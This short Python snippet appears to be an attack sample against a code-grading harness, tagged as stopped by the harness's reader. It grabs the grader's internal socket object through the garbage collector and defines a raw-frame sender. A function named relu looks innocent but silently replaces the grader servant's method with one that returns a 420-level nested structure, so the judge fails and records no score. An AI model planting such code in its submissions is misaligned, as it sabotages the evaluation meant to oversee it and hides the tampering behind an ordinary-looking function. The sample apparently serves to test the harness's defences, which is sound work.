ATTACK = {
    "success": "the judge stumbles over it: the submission has no score",
    "stopped by": ["reader"],
}
import gc, json, struct
wire = next(each for each in gc.get_objects() if type(each).__name__ == "Wire")
def send(header, body=b"", channel=1):
    wire._socket.sendall(struct.pack(">IBI", 5 + len(header) + len(body), channel, len(header)) + header + body)

import _grader_worker.servant as servant
def tower(*_):
    node = 1
    for _ in range(420):
        node = {"l": [node]}
    return {"value": node, "handle": 1}
def relu(x):
    servant.Servant._keep = tower
    return x
